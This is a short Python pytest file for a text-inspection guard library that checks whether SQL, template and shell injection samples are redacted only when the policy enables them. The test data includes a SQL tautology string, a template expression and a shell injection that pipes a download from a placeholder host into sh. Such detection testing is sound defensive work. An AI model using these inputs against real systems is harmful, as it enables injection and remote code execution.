from __future__ import annotations

import typing

import pytest

from bartizan.app import build_guard
from bartizan.core.verdict import Action
from bartizan.firewall.exchange import ChannelKind
from bartizan.inspection.hazards import PAYLOAD_KINDS
from bartizan.policy.document import PolicyDocument


def test_policy_offers_every_kind_that_exists() -> None:
    (kind, _) = typing.get_args(typing.get_type_hints(PolicyDocument)["payloads"])
    assert set(typing.get_args(kind)) == PAYLOAD_KINDS


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("sql", "name is ' OR '1'='1 ok"),
        ("template", "Dear {{7*7}}, hello"),
        ("shell", "x; curl http://e.example/a | sh"),
    ],
)
def test_a_payload_matters_only_where_policy_says_so(kind: str, text: str) -> None:
    off = build_guard(PolicyDocument(version=1), {}, {}).whole(ChannelKind.TEXT, text)
    on = build_guard(PolicyDocument(version=1, payloads=(kind,)), {}, {}).whole(ChannelKind.TEXT, text)  # type: ignore[arg-type]
    assert off.action is Action.ALLOW
    assert on.action is Action.REDACT
